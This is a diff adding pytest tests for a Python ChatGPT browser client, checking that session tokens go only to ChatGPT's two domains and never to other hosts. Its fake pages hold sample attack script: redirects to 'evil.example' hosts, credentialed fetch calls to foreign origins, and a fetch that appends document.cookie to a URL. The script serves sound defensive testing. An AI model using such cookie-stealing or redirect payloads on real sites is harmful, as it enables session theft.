@@ -1,0 +1,169 @@
+"""Where secrets go: to the API's own origin, along with the site between its own two names, and nowhere else."""
+
+from __future__ import annotations
+
+from typing import TYPE_CHECKING, Any
+
+import pytest
+
+from chatgpt_browser import AuthenticationError, ChatGPTAPI, OriginError
+from chatgpt_browser.testing import Answer, FakeChatGPT
+from tests.core.scene import posts_of, where, works
+
+if TYPE_CHECKING:
+    from tests.core.conftest import Connect, Serve
+
+OLD, NEW = "https://chat.openai.com", "https://chatgpt.com"
+COOKIE = "__Secure-next-auth.session-token"
+
+
+def mapped(hosts: dict[str, FakeChatGPT]) -> dict[str, Any]:
+    """Options for a browser that takes these hosts to be our servers, and finds no other."""
+    rules = [f"MAP {host} 127.0.0.1:{server.port}" for host, server in hosts.items()]
+    return {
+        "browser_args": [f"--host-resolver-rules={', '.join([*rules, 'EXCLUDE 127.0.0.1'])}"],
+        "ignore_https_errors": True,
+    }
+
+
+def saw_secrets(server: FakeChatGPT) -> bool:
+    return any(request.cookies or request.bearer for request in server.requests)
+
+
+@pytest.mark.parametrize(("old", "new"), [(OLD, NEW), (NEW, OLD)])
+def test_the_site_moves_between_its_own_two_names(
+    serve: Serve, connect: Connect, caplog: pytest.LogCaptureFixture, old: str, new: str
+) -> None:
+    before, after = (
+        serve(tls=True, public_origin=old),
+        serve(tls=True, public_origin=new, rotate_session_token=True),
+    )
+    after.sign_in(before.session_token)
+    before.redirect_to = new
+    hosts = {old.removeprefix("https://"): before, new.removeprefix("https://"): after}
+    api = connect(before, **mapped(hosts))
+    given = before.session_token
+
+    assert works(api)
+
+    assert [request.method for request in before.requests] == ["GET"]
+    assert posts_of(before.requests) == []
+    [post] = posts_of(after.requests)
+    assert post.headers["origin"] == new
+    assert given in {request.cookies.get(COOKIE) for request in after.requests}
+    assert api.session_token == after.session_token != given
+    assert f"the site has moved from {old} to {new}" in caplog.text
+
+    seen = len(before.requests)
+    assert works(api)
+    assert len(before.requests) == seen, "once it is known where the site is, nobody asks at the old place"
+
+
+@pytest.mark.parametrize("move", [False, True], ids=["to a stranger at once", "by way of the new name"])
+def test_another_host_gets_no_secret(serve: Serve, connect: Connect, move: bool) -> None:
+    old = serve(tls=True, public_origin=OLD)
+    new = serve(tls=True, public_origin=NEW, session_token=old.session_token)
+    evil = serve(tls=True, public_origin="https://chatgpt.com.evil.example", session_token=old.session_token)
+    hosts = {"chat.openai.com": old, "chatgpt.com": new, "chatgpt.com.evil.example": evil}
+    old.redirect_to = NEW if move else evil.origin
+    new.redirect_to = evil.origin
+    api = connect(old, **mapped(hosts))
+
+    with pytest.raises(OriginError) as caught:
+        api.send_message("hello")
+
+    assert caught.value.origin == evil.origin
+    assert evil.origin in str(caught.value)
+    assert len(evil.requests) >= 1
+    assert not saw_secrets(evil)
+    assert posts_of(old.requests) + posts_of(new.requests) == []
+
+    old.redirect_to = new.redirect_to = None
+    assert works(api)
+    assert not saw_secrets(evil)
+
+
+def test_a_move_that_comes_later(serve: Serve, connect: Connect) -> None:
+    """The API itself answers with a redirect: nothing follows it, the token least of all."""
+    evil = serve(tls=True, public_origin="https://evil.example")
+    server = serve(tls=True, public_origin=NEW)
+    api = connect(server, **mapped({"chatgpt.com": server, "evil.example": evil}))
+    assert works(api)
+    server.redirect_to = evil.origin
+
+    with pytest.raises(OriginError):
+        api.send_message("hello")
+    assert evil.requests == []
+
+
+def test_a_document_that_goes_elsewhere_by_script(serve: Serve, connect: Connect) -> None:
+    evil = serve(tls=True, public_origin="https://evil.example")
+    server = serve(tls=True, public_origin=NEW)
+    script = f'<script>location = "{evil.origin}/"</script>'
+    server.script_path("/api/auth/session", Answer(403, script, [("cf-mitigated", "challenge")]))
+    api = connect(server, **mapped({"chatgpt.com": server, "evil.example": evil}))
+
+    with pytest.raises(OriginError) as caught:
+        api.send_message("hello")
+    assert caught.value.origin == evil.origin
+    assert evil.requests
+    assert not saw_secrets(evil)
+
+
+def test_the_cookie_is_for_the_apis_host_alone(serve: Serve, connect: Connect) -> None:
+    """Another host and a host below it are sent no cookie by the page; it is out of reach of scripts, and needs https."""
+    hosts = ("chatgpt.com", "sub.chatgpt.com", "evil.example")
+    server, sub, evil = (serve(tls=True, public_origin=f"https://{host}") for host in hosts)
+    send = "<script>fetch('{0}/asked', {{credentials: 'include', mode: 'no-cors'}})</script>"
+    page = "".join(f'<img src="{each.origin}/pixel">' + send.format(each.origin) for each in (sub, evil))
+    server.script_path(
+        "/api/auth/session", Answer(200, page + "<script>fetch('/js?' + document.cookie)</script>")
+    )
+    api = connect(server, **mapped(dict(zip(hosts, (server, sub, evil), strict=True))))
+    assert works(api)
+
+    for other in (sub, evil):
+        for path in ("/pixel", "/asked"):
+            other.wait_for_request(path)
+        assert not saw_secrets(other)
+    assert server.wait_for_request("/js").query == ""
+
+
+@pytest.mark.parametrize("length", [1_000, 3_933, 3_934, 7_866, 12_000])
+def test_tokens_of_any_length_arrive_whole(serve: Serve, connect: Connect, length: int) -> None:
+    token = ("0123456789abcdefghijklmnopqrstuvwxyz-_." * 400)[:length]
+    server = serve(tls=True, session_token=token)
+    api = connect(server, ignore_https_errors=True)
+    api.start()
+
+    cookies = server.requests[0].cookies
+    names = [COOKIE] if length <= 3_933 else [f"{COOKIE}.{n}" for n in range(-(-length // 3_933))]
+    assert sorted(cookies) == names
+    assert "".join(cookies[name] for name in names) == token
+    assert api.get_is_authenticated()
+    assert api.session_token == token
+
+
+def test_a_shorter_token_leaves_no_stale_part(serve: Serve, connect: Connect) -> None:
+    """From four cookies to one and back to two: the server joins whatever it gets."""
+    tokens = ["b" * 500, "c" * 5_000]
+    server = serve(session_token="a" * 12_000, rotate_session_token=tokens)
+    api = connect(server, access_token_ttl=0)
+    api.start()  # the page's own visit rotates it, too
+    for _ in range(3):
+        assert api.get_is_authenticated()
+    assert api.session_token == server.session_token == tokens[-1]
+
+
+def test_http_is_for_loopback_alone(serve: Serve) -> None:
+    url = "http://chat.example"
+    with pytest.raises(ValueError, match="must be https"):
+        ChatGPTAPI("token", api_base_url=f"{url}/api", backend_api_base_url=f"{url}/backend-api")
+
+
+def test_a_certificate_that_nobody_vouches_for(serve: Serve) -> None:
+    server = serve(tls=True)
+    with ChatGPTAPI(server.session_token, retries=0, **where(server)) as api:
+        with pytest.raises(AuthenticationError, match="ERR_CERT_AUTHORITY_INVALID"):
+            api.ensure_auth()
+    assert server.requests == []
